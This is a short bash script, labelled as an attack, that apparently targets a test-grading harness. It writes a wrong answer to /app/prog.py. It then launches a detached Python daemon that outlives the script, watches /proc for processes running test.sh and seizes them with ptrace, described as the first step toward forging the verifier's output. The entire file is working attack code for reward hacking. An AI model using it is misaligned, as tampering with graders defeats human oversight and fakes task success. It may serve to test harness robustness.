#!/bin/bash
# Attack: a daemon left behind seizes (ptrace) the verifier's processes, the
# first step of making them write what it wants.
echo 'print(41)' > /app/prog.py
cat > /tmp/tracer.py <<'PY'
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_SEIZE = 0x4206
me, seized = os.getpid(), set()
while True:
    for p in os.listdir("/proc"):
        if p.isdigit() and int(p) != me and int(p) not in seized:
            try:
                if b"test.sh" in open("/proc/%s/cmdline" % p, "rb").read():
                    if libc.ptrace(PTRACE_SEIZE, int(p), 0, 0) == 0:
                        seized.add(int(p))
            except OSError:
                pass
    time.sleep(0.001)
PY
setsid python3 /tmp/tracer.py </dev/null >/dev/null 2>&1 &
sleep 0.2
